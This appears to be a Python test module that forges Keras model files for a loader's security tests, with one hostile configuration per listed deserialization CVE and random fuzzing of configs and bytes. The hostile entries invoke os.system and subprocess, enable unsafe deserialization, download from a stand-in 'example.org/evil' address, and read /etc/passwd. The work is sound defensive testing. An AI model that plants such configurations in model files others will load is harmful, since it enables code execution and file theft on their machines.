"""Forged files of Keras: each asks the loader to run, open or allocate something."""

import copy
import io
import json
import random
import zipfile
from typing import Any

import h5py
import numpy as np

import fjax as keras
from fjax import layers

CONFIG, WEIGHTS = "config.json", "model.weights.h5"


def sample_model() -> keras.Model:
    """Return a small compiled model: a graph with a nested model, and a shared layer."""
    inputs = layers.Input((4,), name="features")
    tower = keras.Sequential([layers.Input((4,)), layers.Dense(3, "relu", kernel_regularizer="l2")])
    shared = layers.Dense(4, name="shared", kernel_initializer=keras.initializers.HeNormal(seed=1))
    joined = layers.Concatenate()([tower(inputs), tower(shared(shared(inputs)))])
    steps = layers.Reshape((2, 3))(joined)
    outputs = layers.Dense(1)(layers.LSTM(2)(layers.BatchNormalization()(steps)))
    model = keras.Model(inputs, outputs)
    rate = keras.optimizers.schedules.ExponentialDecay(0.1, 10, 0.5)
    model.compile(keras.optimizers.Adam(rate), keras.losses.Huber(), metrics=["mae"])
    return model


class KerasFile:
    """The members of a genuine `.keras` file, from which forged ones are made.

    Args:
        path: The file.
    """

    def __init__(self, path: Any) -> None:
        with zipfile.ZipFile(path) as archive:
            self.members = {name: archive.read(name) for name in archive.namelist()}
        self.config = json.loads(self.members[CONFIG])

    def write(self, path: Any, config: Any = None, **members: bytes) -> None:
        """Write the file with another configuration, as plain data, or other members."""
        contents = {**self.members, **members}
        if config is not None:
            contents[CONFIG] = json.dumps(config).encode()
        with zipfile.ZipFile(path, "w") as archive:
            for name, content in contents.items():
                archive.writestr(name, content)

    def legacy(self, config: Any = None) -> bytes:
        """Return a `.h5` file with the same configuration."""
        memory = io.BytesIO()
        with h5py.File(memory, "w") as file:
            file.attrs["keras_version"], file.attrs["backend"] = "3.15.1", "jax"
            file.attrs["model_config"] = json.dumps(self.config if config is None else config)
            group = file.create_group("model_weights")
            group.attrs["layer_names"] = ["dense"]
            dense = group.create_group("dense")
            dense.attrs["weight_names"] = ["dense/kernel"]
            dense["dense/kernel"] = np.ones((4, 3), "f4")
        return memory.getvalue()


def layer(class_name: str, module: str = "keras.layers", **config: Any) -> dict[str, Any]:
    """Return the configuration of a layer."""
    name = config.setdefault("name", "evil")
    registered = None if module.startswith("keras.") else class_name
    return {"module": module, "class_name": class_name, "config": config,
            "registered_name": registered, "name": name, "inbound_nodes": []}  # fmt: skip


def sequential(*members: Any) -> dict[str, Any]:
    """Return the configuration of a `Sequential`."""
    declared = layer("InputLayer", batch_shape=[None, 4], dtype="float32", name="input")
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "model", "layers": [declared, *members]}}  # fmt: skip


def function(module: str, name: str) -> dict[str, Any]:
    """Return the configuration of a function."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


LAMBDA = {"class_name": "__lambda__", "config": {
    "value": {"class_name": "__tuple__", "config": {"value": ["4wEAAAAAAAAA", None, None]}}
}}  # fmt: skip
# In `.h5` files of Keras 2, a lambda is a list: marshalled code, defaults and closure.
OLDER_LAMBDA = ["4wEAAAAAAAAA\n", None, None]
EVIL = "https://example.org/evil"

# One configuration for each published vulnerability of Keras's loaders, by its number.
CONFIGS = {
    "CVE-2024-3660, code of a Lambda": sequential(layer("Lambda", function=LAMBDA)),
    "CVE-2024-3660, code of an older Lambda": sequential(layer("Lambda", function=OLDER_LAMBDA)),
    "CVE-2025-1550, a function of any module": sequential(
        layer("Lambda", function=function("os", "system"), arguments={"command": "touch /tmp/x"})
    ),
    "CVE-2025-1550, a class of any module": sequential(
        layer("Popen", "subprocess", args=["touch", "/tmp/x"])
    ),
    "CVE-2025-1550, a module of Keras's that imports": sequential(
        layer("run", "keras.src.utils.python_utils.subprocess", args=["touch", "/tmp/x"])
    ),
    "CVE-2025-8747, get_file of Keras": sequential(
        layer("Lambda", function=function("keras.utils", "get_file"),
              arguments={"origin": EVIL, "fname": "x"})
    ),
    "CVE-2025-9906, a switch of Keras's own": sequential(
        layer("enable_unsafe_deserialization", "keras.config"), layer("Lambda", function=LAMBDA)
    ),
    "CVE-2025-9906, the same as a function": sequential(
        layer("Lambda", function=function("keras.config", "enable_unsafe_deserialization"))
    ),
    "CVE-2025-12058, a vocabulary in a file": sequential(
        layer("StringLookup", vocabulary="/etc/passwd")
    ),
    "CVE-2025-12058, a vocabulary at an address": sequential(
        layer("IntegerLookup", vocabulary=f"{EVIL}.txt")
    ),
    "CVE-2025-12060, an archive at an address": sequential(
        layer("Lambda", function=function("keras.src.utils.file_utils", "get_file"),
              arguments={"origin": f"{EVIL}.tar", "extract": True})
    ),
    "CVE-2025-49655, a module of PyTorch": sequential(
        layer("TorchModuleWrapper", module_bytes="gASVAAAA")
    ),
    "CVE-2026-1462, a saved model of TensorFlow": sequential(
        layer("TFSMLayer", filepath="/tmp/evil", call_endpoint="serve")
    ),
    "a model of JAX with functions": sequential(
        layer("JaxLayer", call_fn=LAMBDA, init_fn=LAMBDA)
    ),
    "a type of TensorFlow": sequential(layer("InputLayer", batch_shape={
        "class_name": "__typespec__", "spec_name": "system", "module": "os", "config": ["x"],
        "registered_name": None,
    })),
    "a path to a private attribute": sequential(layer("Dense.__init__.__globals__", units=1)),
    "an optimizer instead of a layer": sequential(layer("Adam", "keras.optimizers")),
    "a policy that is unknown": sequential(layer("Dense", units=1, dtype={
        "module": "keras", "class_name": "DTypePolicy", "config": {"name": "mixed_float8"},
        "registered_name": None,
    })),
    "weights that no memory holds": sequential(layer("Dense", units=10**15)),
    "a shape without an end": sequential(layer("Reshape", target_shape=[10**30])),
    "a name that leads out": sequential(layer("Dense", units=1, name="../../evil")),
    "units that are text": sequential(layer("Dense", units="/etc/passwd")),
    "an unknown argument": sequential(layer("Dense", units=1, unit=3)),
}  # fmt: skip


def forge_config(config: Any, rng: random.Random) -> Any:
    """Return a configuration with one to three random changes, some of them hostile."""
    from tests.hostile.files import VALUES, all_paths

    config = copy.deepcopy(config)
    hostile = [*CONFIGS.values()]
    for _ in range(rng.choice([1, 1, 2, 3])):
        path = rng.choice(all_paths(config)[1:])
        parent = config
        for key in path[:-1]:
            parent = parent[key]
        kind = rng.randrange(5)
        if kind == 0 and isinstance(parent, dict):
            del parent[path[-1]]
        elif kind == 1:
            evil = rng.choice(hostile)["config"]["layers"][-1]
            parent[path[-1]] = copy.deepcopy(rng.choice([evil, evil["config"], LAMBDA]))
        elif kind == 2:
            value = config
            for key in rng.choice(all_paths(config)):
                value = value[key]
            parent[path[-1]] = copy.deepcopy(value)
        elif kind == 3 and type(parent[path[-1]]) is int:
            parent[path[-1]] += rng.choice([-1, 1, 10**6])
        else:
            parent[path[-1]] = copy.deepcopy(rng.choice(VALUES))
        if not isinstance(config, dict) or len(all_paths(config)) < 2:
            break
    return config


def forge_bytes(content: bytes, rng: random.Random) -> bytes:
    """Return bytes with random changes: flipped bits, other numbers, parts moved or cut off."""
    data = bytearray(content)
    for _ in range(rng.choice([1, 1, 2, 4, 16])):
        position, kind = rng.randrange(len(data)), rng.randrange(5)
        if kind == 0:
            data[position] ^= 1 << rng.randrange(8)
        elif kind == 1:
            data[position] = rng.randrange(256)
        elif kind == 2:
            number = rng.choice([0, 8, 96, len(data), 2**31, 2**32 - 1, 2**63, 2**64 - 1])
            part = number.to_bytes(8, "little")[: len(data) - position]
            data[position : position + len(part)] = part
        elif kind == 3:
            source = rng.randrange(len(data))
            data[position : position + 16] = data[source : source + 16]
        elif rng.random() < 0.2:
            del data[rng.randrange(1, len(data)) :]
    return bytes(data)
